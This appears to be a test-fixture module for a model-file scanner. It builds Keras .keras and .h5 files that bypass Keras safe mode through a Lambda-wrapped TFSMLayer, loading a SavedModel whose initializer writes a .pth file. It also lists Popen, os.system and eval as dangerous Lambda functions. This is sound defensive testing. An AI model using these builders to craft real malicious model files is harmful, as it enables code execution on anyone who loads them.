"""Keras files whose config walks around Keras 3.15.1 safe mode.

The main one: a ``Lambda`` whose ``function`` config names the class ``keras.layers.TFSMLayer``
and whose inbound node passes ``inputs`` as a plain string. Keras resolves the class as the
Lambda's function and calls ``TFSMLayer("<path>")``, which loads that SavedModel without any
scan (TFSMLayer's safe-mode check lives only in its ``from_config``). The SavedModel here runs
a ``WriteFile`` in a resource initializer, so loading the ``.keras`` file drops a ``.pth``.
"""

from __future__ import annotations

import json
import shutil
import zipfile
from pathlib import Path
from typing import Any

from jacgui.core._tf import keras
from tests.attacks import Attack
from tests.attacks.savedmodels import build_op_attack

#: Lambda ``function`` configs that must never be loaded without trust.
FUNCTIONS: dict[str, dict[str, Any]] = {
    "tfsmlayer": {"module": "keras.layers", "class_name": "function", "config": "TFSMLayer",
                  "registered_name": "function"},
    "popen": {"module": "subprocess", "class_name": "function", "config": "Popen",
              "registered_name": "function"},
    "os-system": {"module": "os", "class_name": "function", "config": "system",
                  "registered_name": "function"},
    "builtins-eval": {"module": "builtins", "class_name": "function", "config": "eval",
                      "registered_name": "function"},
    "keras-class": {"module": "keras.layers", "class_name": "function", "config": "Dense",
                    "registered_name": "function"},
}  # fmt: skip


def build_lambda_attack(folder: Path, function: str = "tfsmlayer", *, nested: bool = False,
                        suffix: str = ".keras") -> Attack:
    """A Keras file whose Lambda's function is ``FUNCTIONS[function]``, called on a string.

    ``nested`` puts the Lambda inside a sub-model; ``suffix`` is ``.keras`` or ``.h5``.
    """
    evil = build_op_attack(folder, "WriteFile", "init")
    k = keras()
    x = k.Input((2,), name="x")
    inner = k.Model(x, k.layers.Lambda(k.ops.square, name="trap")(x), name="inner")
    if nested:
        outer_x = k.Input((2,), name="x")
        model = k.Model(outer_x, inner(outer_x), name="outer")
    else:
        model = inner
    path = folder / f"lambda-{function}{'-nested' if nested else ''}{suffix}"
    model.save(path)

    def rewrite(config: dict[str, Any]) -> None:
        layer = _find_layer(config, "trap")
        layer["config"]["function"] = FUNCTIONS[function]
        layer["config"]["arguments"] = {"call_endpoint": "serving_default"}
        layer["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": str(evil.path)}}]

    _edit_config(path, rewrite)
    return Attack(path, evil.canaries, evil.site_packages)


def build_tfsmlayer_layer(folder: Path) -> Attack:
    """A ``.keras`` model holding a ``TFSMLayer`` layer on an attack SavedModel."""
    evil = build_op_attack(folder, "WriteFile", "init")
    k = keras()
    x = k.Input((2,), name="x")
    model = k.Model(x, k.layers.Dense(2, name="trap")(x))
    path = folder / "tfsmlayer.keras"
    model.save(path)

    def rewrite(config: dict[str, Any]) -> None:
        layer = _find_layer(config, "trap")
        layer.update({"module": "keras.layers", "class_name": "TFSMLayer",
                      "registered_name": "TFSMLayer"})
        layer["config"] = {"name": "trap", "filepath": str(evil.path),
                           "call_endpoint": "serving_default", "trainable": False}

    _edit_config(path, rewrite)
    return Attack(path, evil.canaries, evil.site_packages)


def _find_layer(config: Any, name: str) -> dict[str, Any]:
    stack = [config]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            if node.get("name") == name or _get_name(node) == name:
                if "class_name" in node:
                    return node
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)
    raise KeyError(name)


def _get_name(node: dict[str, Any]) -> Any:
    config = node.get("config")
    return config.get("name") if isinstance(config, dict) else None


def _edit_config(path: Path, edit: Any) -> None:
    """Apply ``edit`` to the model config of a ``.keras`` archive or an ``.h5`` file."""
    if path.suffix == ".h5":
        import h5py

        with h5py.File(path, "r+") as f:
            config = json.loads(f.attrs["model_config"])
            edit(config)
            f.attrs["model_config"] = json.dumps(config)
        return
    copy = path.with_suffix(".orig")
    shutil.move(path, copy)
    with zipfile.ZipFile(copy) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "config.json":
                config = json.loads(data)
                edit(config)
                data = json.dumps(config).encode()
            target.writestr(info, data)
    copy.unlink()
